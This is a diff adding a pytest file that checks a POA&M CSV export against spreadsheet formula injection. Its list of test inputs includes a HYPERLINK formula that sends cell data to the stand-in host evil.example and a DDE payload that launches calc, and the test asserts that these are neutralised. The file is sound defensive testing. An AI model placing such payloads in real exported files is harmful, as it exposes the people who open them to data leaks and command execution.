@@ -1,0 +1,68 @@
+"""poam.csv opens as text in any spreadsheet, whatever its list separator.
+
+Waiver reasons, owners, milestones and catalog titles come from the repository's config. A cell
+that starts with = + - @ (or TAB / CR before one) is a formula in Excel and LibreOffice; in a
+locale whose separator is `;`, the unquoted `a;=1+1` is two cells, the second a formula. Every
+column gets a hostile value; the file is read as a `,` reader and as a naive `;` reader would.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from baseline.report.cisa_form import poam_csv
+from baseline.report.form_view import PoamEntry, TaskRef
+
+FORMULAS = (
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "ok;=1+1",
+    "ok,=1+1",
+    "ok; @SUM(1)",
+    "ok\n=1+1",
+    "x\x1b]0;title\x07\u202e\u009b",
+)
+RAW = ("\t", "\r", "\x1b", "\x07", "\u202e", "\u009b")
+_STARTS = ("=", "+", "-", "@")
+
+
+def _view(value: str) -> Any:
+    task = TaskRef(f"PW.1.1{value}", "a", f"title{value}", value, automated=True)
+    entry = PoamEntry(
+        item=value,
+        title=value,
+        tasks=(task,),
+        waivers=((task.id, value, value, value, value),),
+        milestones=((value, task.id, value),),
+        plan=value,
+    )
+    return SimpleNamespace(poam=(entry,))
+
+
+def _cells_as_read(text: str) -> list[str]:
+    """Every cell a `,` reader and a `;`-locale reader (which ignores `,` and quotes) would see."""
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    for line in text.splitlines():
+        cells += [piece.lstrip(' "') for piece in line.split(";")]
+    return cells
+
+
+@pytest.mark.parametrize("value", FORMULAS, ids=range(len(FORMULAS)))
+def test_no_cell_is_a_formula(value: str) -> None:
+    text = poam_csv(_view(value))
+    for char in RAW:
+        assert char not in text, (char, text)
+    assert text.count("\n") == 2  # the header and one row: a newline in a value stays inside
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows[1]) == 11  # every column carries the hostile value
+    for cell in _cells_as_read(text):
+        assert not cell.lstrip().startswith(_STARTS), (value, cell)
